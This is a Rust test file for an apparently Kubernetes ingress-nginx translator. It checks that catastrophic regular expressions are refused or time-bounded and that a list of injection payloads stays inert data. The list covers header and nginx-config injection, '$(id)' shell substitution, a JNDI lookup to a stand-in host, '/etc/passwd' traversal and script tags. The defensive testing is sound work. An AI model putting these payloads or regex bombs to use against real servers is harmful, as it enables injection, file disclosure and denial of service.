//! Objects that were written to do harm: expressions and documents that grow, text that would be
//! syntax elsewhere.

use std::time::{Duration, Instant};

use serde_json::{Value, json};

use super::world::{World, host, one_host, path};
use crate::ingress_nginx::{ANNOTATIONS, PREFIX};
use crate::model::{PathMatch, ProblemKind};

/// Long enough for a loaded machine, far too short for a bomb.
const SOON: Duration = Duration::from_secs(20);

fn world() -> World {
    let mut world = World::new();
    world.simple_service("web");
    world
}

fn regex(pattern: &str) -> Value {
    one_host(
        "it.test",
        json!([path("ImplementationSpecific", pattern, "web")]),
    )
}

fn use_regex() -> Value {
    json!({(format!("{PREFIX}use-regex")): "true"})
}

#[test]
fn reliability_b16_expressions_that_grow_are_refused_and_others_served() {
    let nested = "(a{1,1000}){1,1000}".repeat(3);
    let deep = format!("/{}a{}", "(".repeat(5_000), ")".repeat(5_000));
    let wide = format!("/{}", "(?:\\p{L}{1,500})".repeat(50));
    for pattern in [
        &*format!("/{nested}"),
        &deep,
        &wide,
        "/(",
        "/[z-a]",
        "/(?<n>a)\\k<m>",
        "/\\p{Nothing}",
        "/a{99999999999}",
    ] {
        let mut world = world();
        world.ingress("bomb", 0, use_regex(), regex(pattern));
        world.ingress(
            "other",
            1,
            json!({}),
            one_host("other.test", json!([path("Prefix", "/", "web")])),
        );
        let started = Instant::now();
        let snapshot = world.build();
        let shown: String = pattern.chars().take(40).collect();
        assert!(started.elapsed() < SOON, "{shown}");
        let rule = &host(&snapshot, "it.test").rules[0];
        assert_eq!(rule.invalid, Some("bad regular expression"), "{shown}");
        let problem = snapshot.problems.iter().next().unwrap();
        assert_eq!(problem.kind, ProblemKind::BadField, "{shown}");
        assert_eq!(problem.field, "spec.rules[0].http.paths[0].path", "{shown}");
        assert!(problem.message.len() < 100_000, "{shown}");
        assert_eq!(host(&snapshot, "other.test").rules[0].invalid, None);
    }
}

#[test]
fn reliability_b16_expressions_that_take_forever_are_given_up() {
    for (pattern, asked) in [
        ("/(a+)+b", format!("/{}", "a".repeat(5_000))),
        ("/(?=(a+)+b)a", format!("/{}", "a".repeat(5_000))),
        ("/(a|aa)+\\1b", format!("/{}", "a".repeat(5_000))),
        ("/(.*)*(.*)*(.*)*\\1x", format!("/{}", "ab".repeat(2_500))),
    ] {
        let mut world = world();
        world.ingress("slow", 0, use_regex(), regex(pattern));
        let snapshot = world.build();
        let rule = &host(&snapshot, "it.test").rules[0];
        assert_eq!(rule.invalid, None, "{pattern} is no bomb until it runs");
        let PathMatch::Regex(compiled) = &rule.path else {
            panic!("{pattern} is a regular expression");
        };
        let started = Instant::now();
        let matched = compiled.is_match(&asked);
        assert!(started.elapsed() < SOON, "{pattern}");
        assert!(!matches!(matched, Ok(true)), "{pattern}: {matched:?}");
    }
}

/// What has broken out of a configuration somewhere: ends of lines and of strings, variables, other
/// languages, other files.
pub(super) const PAYLOADS: [&str; 18] = [
    "x\r\nSet-Cookie: evil=1",
    "x\nX-Evil: 1",
    "x\rX-Evil: 1",
    "x\0y",
    "x\u{1b}[2J",
    "x\u{7f}",
    "\"; return 200 evil; #",
    "}\nlocation /evil { alias /etc/; }",
    "#;\n\n}}}server{listen 1;}",
    "$(id)",
    "`id`",
    "${jndi:ldap://evil.test/a}",
    "$remote_addr$http_authorization",
    "../../../../etc/passwd",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "<script>alert(1)</script>",
    "{{ .Env }}",
];

/// Payloads that have no place in any field.
pub(super) fn breaks_lines(payload: &str) -> bool {
    payload.chars().any(char::is_control)
}

#[test]
fn reliability_b17_no_annotation_takes_control_characters() {
    for annotation in ANNOTATIONS {
        for payload in PAYLOADS.into_iter().filter(|p| breaks_lines(p)) {
            // Behind a value that is good, so that nothing else is wrong with it.
            for value in [
                payload.to_owned(),
                format!("{}{payload}", annotation.sample),
            ] {
                let mut world = world();
                let written = json!({(format!("{PREFIX}{}", annotation.name)): value});
                let paths = json!([path("Prefix", "/", "web")]);
                world.ingress("it", 0, written, one_host("it.test", paths));
                let snapshot = world.build();
                let name = annotation.name;
                let problem = snapshot.problems.iter().next();
                let problem = problem.unwrap_or_else(|| panic!("{name}: {value:?} is taken"));
                assert_eq!(problem.object.kind, "Ingress", "{name}: {value:?}");
                assert!(
                    !breaks_lines(&problem.message) && !breaks_lines(&problem.field),
                    "{name}: {value:?} is repeated: {problem:?}"
                );
            }
        }
    }
}

#[test]
fn reliability_b17_payloads_stay_data_wherever_they_are_written() {
    for payload in PAYLOADS {
        for annotation in ANNOTATIONS {
            let mut world = world();
            let written = json!({(format!("{PREFIX}{}", annotation.name)): payload});
            let paths = json!([path("Prefix", "/", "web")]);
            world.ingress("it", 0, written, one_host("it.test", paths));
            world.ingress(
                "other",
                1,
                json!({}),
                one_host("other.test", json!([path("Prefix", "/", "web")])),
            );
            // Nothing of it reaches another Ingress.
            let snapshot = world.build();
            let other = &host(&snapshot, "other.test").rules;
            assert_eq!(other.len(), 1, "{}: {payload:?}", annotation.name);
            assert_eq!(other[0].invalid, None, "{}: {payload:?}", annotation.name);
            assert!(other[0].filters.policy.is_none(), "{payload:?}");
        }
    }
}

#[test]
fn reliability_b17_fields_of_an_ingress_take_no_control_characters() {
    for payload in PAYLOADS.into_iter().filter(|p| breaks_lines(p)) {
        let text = format!("/a{payload}");
        let backend = json!({"service": {"name": payload, "port": {"number": 80}}});
        let port = json!({"service": {"name": "web", "port": {"name": payload}}});
        let rule =
            |backend: Value| json!([{"pathType": "Prefix", "path": "/", "backend": backend}]);
        let secret = json!({
            "tls": [{"hosts": ["it.test"], "secretName": payload}],
            "rules": [{"host": "it.test", "http": {"paths": [path("Prefix", "/", "web")]}}],
        });
        for spec in [
            one_host(payload, json!([path("Prefix", "/", "web")])),
            one_host("it.test", json!([path("Prefix", &text, "web")])),
            one_host("it.test", json!([path("Exact", &text, "web")])),
            one_host(
                "it.test",
                json!([path("ImplementationSpecific", &text, "web")]),
            ),
            one_host("it.test", rule(backend)),
            one_host("it.test", rule(port)),
            secret,
        ] {
            let mut world = world();
            world.ingress("it", 0, json!({}), spec.clone());
            let snapshot = world.build();
            let missing = world.compiler.secrets().next().is_some();
            let problems: Vec<_> = snapshot.problems.iter().collect();
            assert!(
                missing || !problems.is_empty(),
                "{payload:?} in {spec} is taken"
            );
            for problem in problems {
                assert!(
                    !breaks_lines(&problem.message),
                    "{payload:?} is repeated: {problem:?}"
                );
            }
        }
    }
}
